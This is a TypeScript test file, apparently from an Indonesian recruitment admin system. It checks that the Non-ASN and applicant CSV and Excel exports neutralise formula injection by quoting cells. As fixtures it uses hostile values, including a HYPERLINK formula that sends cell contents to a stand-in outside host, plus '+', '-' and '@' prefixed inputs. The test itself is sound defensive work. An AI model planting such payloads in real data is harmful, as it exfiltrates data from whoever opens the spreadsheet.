// Issue #30: the Non-ASN and applicant exports, downloaded as their screens download them, of
// records whose text a spreadsheet would run as a formula (typed on a screen, or stored before
// the import refused it): every such cell comes out as text with a leading quote, in CSV and in
// Excel, and dates and numbers stay what they are.

import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ensureJadwal } from '../../db/seed/jadwal.js';
import { seedNonAsn } from '../../db/seed/nonasn.js';
import { useApiFixture } from '../../test/api-fixture.js';

const BOGOR = 4; // admin.pppk's instansi
const CPNS_INSTANSI = 3; // admin.cpns's instansi
const HYPERLINK = '=HYPERLINK("https://contoh.id/?d="&A1,"Lihat")';

const api = useApiFixture({
  applicants: { seed: 30, blocks: [{ instansiId: CPNS_INSTANSI, track: 'cpns', applicants: 6 }] },
  seed: async ({ ctx }) => {
    await ensureJadwal(ctx.db);
    await seedNonAsn(ctx.db, [{ instansiId: BOGOR, records: 4, unanswered: true }], 30);
  },
});

/** The CSV download as records by header (the BOM and `;` Excel in the Indonesian locale reads). */
const csvRecords = (body: string) =>
  parse(body, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];

async function workbookOf(payload: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
  return workbook.worksheets[0] as ExcelJS.Worksheet;
}

/** A sheet's row as header → cell. */
function cellsOf(sheet: ExcelJS.Worksheet, rowNumber: number): Record<string, ExcelJS.Cell> {
  const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  return Object.fromEntries(header.map((name, i) => [name, sheet.getRow(rowNumber).getCell(i + 1)]));
}

function noFormulas(sheet: ExcelJS.Worksheet) {
  sheet.eachRow((row) => {
    row.eachCell((cell) => expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula));
  });
}

describe('list exports neutralise formula text (issue #30)', () => {
  it('Non-ASN: CSV and Excel give the hostile cells quoted, the dates still dates', async () => {
    const record = await api.ctx.db
      .selectFrom('nonasn')
      .select(['id', 'nik'])
      .where('instansi_id', '=', BOGOR)
      .orderBy('id')
      .executeTakeFirstOrThrow();
    await api.ctx.db
      .updateTable('nonasn')
      .set({ alasan: HYPERLINK, nama: '+62 Budi', tempat_lahir: '-1+1', unit_kerja: '@SUM(A1)', jabatan: '＝1+1' })
      .where('id', '=', record.id)
      .execute();
    const expected = {
      Alasan: `'${HYPERLINK}`,
      Nama: "'+62 Budi",
      'Tempat Lahir': "'-1+1",
      'Unit Kerja': "'@SUM(A1)",
      Jabatan: "'＝1+1",
    };

    const csv = await api.call('admin.pppk', 'POST', '/api/pppk/nonasn/export', { format: 'csv' });
    expect(csv.statusCode, csv.body).toBe(200);
    const row = csvRecords(csv.body).find((r) => r.NIK === record.nik);
    expect(row).toMatchObject({ ...expected, 'Tanggal Lahir': expect.stringMatching(/^\d{2}\/\d{2}\/\d{4}$/) });

    const xlsx = await api.call('admin.pppk', 'POST', '/api/pppk/nonasn/export', { format: 'xlsx' });
    expect(xlsx.statusCode).toBe(200);
    const sheet = await workbookOf(xlsx.rawPayload);
    const rowNumber = [...Array(sheet.rowCount).keys()]
      .map((i) => i + 1)
      .find((n) => {
        return sheet.getRow(n).getCell(1).value === record.nik;
      });
    expect(rowNumber).toBeDefined();
    const cells = cellsOf(sheet, rowNumber as number);
    for (const [header, value] of Object.entries(expected)) {
      expect(cells[header]?.type, header).toBe(ExcelJS.ValueType.String);
      expect(cells[header]?.value, header).toBe(value);
    }
    expect(cells['Tanggal Lahir']?.value).toBeInstanceOf(Date);
    noFormulas(sheet);
  });

  it('applicants: CSV and Excel give the hostile cells quoted', async () => {
    const pelamar = await api.ctx.db
      .selectFrom('pelamar')
      .select(['id', 'no_peserta', 'formasi_id'])
      .where('instansi_id', '=', CPNS_INSTANSI)
      .where('track', '=', 'cpns')
      .orderBy('id')
      .executeTakeFirstOrThrow();
    await api.ctx.db
      .updateTable('pelamar')
      .set({ nama: HYPERLINK, gelar_depan: '+dr.', gelar_belakang: '-S.H.' })
      .where('id', '=', pelamar.id)
      .execute();
    await api.ctx.db
      .updateTable('formasi')
      .set({ jabatan_nama: '@SUM(1)' })
      .where('id', '=', pelamar.formasi_id)
      .execute();
    const expected = {
      Nama: `'${HYPERLINK}`,
      'Gelar Depan': "'+dr.",
      'Gelar Belakang': "'-S.H.",
      Jabatan: "'@SUM(1)",
    };
    const body = (format: string) => ({
      format,
      filter: {},
      sorting: { column: 'nama', direction: 'asc' },
      searchTerm: '',
    });

    const csv = await api.call('admin.cpns', 'POST', '/api/cpns/admin/export', body('csv'));
    expect(csv.statusCode, csv.body).toBe(200);
    const row = csvRecords(csv.body).find((r) => r['Nomor Peserta'] === pelamar.no_peserta);
    expect(row).toMatchObject(expected);

    const xlsx = await api.call('admin.cpns', 'POST', '/api/cpns/admin/export', body('xlsx'));
    expect(xlsx.statusCode).toBe(200);
    const sheet = await workbookOf(xlsx.rawPayload);
    const rowNumber = [...Array(sheet.rowCount).keys()]
      .map((i) => i + 1)
      .find((n) => sheet.getRow(n).getCell(1).value === pelamar.no_peserta);
    expect(rowNumber).toBeDefined();
    const cells = cellsOf(sheet, rowNumber as number);
    for (const [header, value] of Object.entries(expected)) {
      expect(cells[header]?.type, header).toBe(ExcelJS.ValueType.String);
      expect(cells[header]?.value, header).toBe(value);
    }
    noFormulas(sheet);
  });
});
